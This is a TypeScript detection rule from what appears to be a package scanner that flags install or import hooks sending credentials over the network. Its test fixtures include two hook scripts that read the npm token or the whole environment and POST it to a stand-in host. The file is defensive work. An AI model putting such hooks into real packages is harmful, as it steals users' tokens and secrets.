import type { Action, Flow, Rule, Severity, SourceKind } from '../lib/types.ts'
import { destinationsInWords, findingOfFlow, sourceInWords, when } from './finding.ts'

/** Sources that name what only the user should send: everything, or files that hold nothing but credentials. */
const secrets: ReadonlySet<SourceKind> = new Set(['env', 'env-secret', 'credential-file', 'metadata-service'])

const leaving: ReadonlySet<string> = new Set(['network', 'dns'])

/** Credentials that leave the machine without anybody asking for it. */
export const secretExfiltration: Rule = {
  meta: {
    id: 'secret-exfiltration',
    title: 'Sends credentials away',
    severity: 'critical',
    description:
      'The code reads credentials it was never given (a token file, the whole environment, a secret variable) and sends ' +
      'them over the network. No install step of an honest package needs that. If it runs on import, somebody who only ' +
      'uses the package has lost the secret.',
    references: ['crossenv (2017)', 'eslint-scope 3.7.2 (2018)', 'Shai-Hulud (2025)'],
    blindSpots: ['Code that is fetched at run time and does the sending itself.'],
    examples: {
      flags: [
        {
          title: 'a hook reads the npm token and posts it',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs'), os = require('os'), path = require('path')\n" +
              "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\n" +
              "const request = require('https').request({ host: 'collect.invalid', method: 'POST' })\n" +
              'request.end(token)\n',
          },
        },
        {
          title: 'a hook posts the whole environment',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}',
            'setup.js':
              "fetch('https://collect.invalid/env', { method: 'POST', body: JSON.stringify(process.env) })\n",
          },
        },
      ],
      passes: [
        {
          title: 'a hook reads a credential file and keeps it to itself',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs'), os = require('os'), path = require('path')\n" +
              "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\n" +
              "console.log(rc.includes('registry=') ? 'custom registry' : 'default registry')\n",
          },
        },
        {
          title: 'a client sends the key its caller configured',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              'exports.get = (apiKey, path) =>\n' +
              "  fetch('https://api.a.example' + path, { headers: { authorization: apiKey } })\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    return inspection.flows
      .filter(flow => secrets.has(flow.source.kind) && leaving.has(flow.sink.kind))
      .map(flow =>
        findingOfFlow(flow, {
          ...weigh(flow),
          message:
            `${when(flow.phase, flow.byCall)} it reads ${sourceInWords(flow.source)} and sends it to ` +
            destinationsInWords(flow.sink.destinations),
        }),
      )
  },
}

function weigh(flow: Flow): { readonly severity: Severity; readonly action: Action } {
  const unasked = flow.phase === 'install' || flow.phase === 'import'
  const wholesale = flow.source.kind === 'credential-file' || flow.source.kind === 'env'
  if (flow.phase === 'install' && flow.certain && wholesale) return { severity: 'critical', action: 'block' }
  if (flow.phase === 'install') return { severity: 'high', action: 'ask' }
  if (unasked && wholesale) return { severity: 'high', action: 'ask' }
  return { severity: 'low', action: 'note' }
}
